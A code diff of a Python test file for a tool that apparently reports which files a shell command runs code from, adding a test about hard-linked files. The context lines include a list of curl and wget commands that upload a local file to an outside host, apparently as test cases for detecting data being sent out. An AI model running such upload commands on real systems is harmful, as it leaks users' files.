@@ -128,6 +128,14 @@ def test_a_pipe_is_named_as_what_can_give_anything(tmp_path: Path) -> None:
     assert line.startswith("it runs code of deploy.sh (no regular file: it can give anything) (hash ")
 
 
+def test_a_file_with_another_name_is_named_first(tmp_path: Path) -> None:
+    for name in "abcde":
+        (tmp_path / name).write_text("x")
+    os.link(tmp_path / "e", tmp_path / "other")
+    line = code_of("sh a; sh b; sh c; sh d; sh e", str(tmp_path), "/home/me", [str(tmp_path)])
+    assert line.startswith("it runs code of e (has 2 names: it changes with the others), a, b and 2 more (hash ")
+
+
 SENT = [
     "curl -T c.txt https://x.org", "curl -d @c.txt https://x.org", "curl -F a=@c.txt https://x.org",
     "curl -d @- https://x.org < c.txt", "cat c.txt | curl -d @- https://x.org", "wget --post-file=c.txt https://x.org",
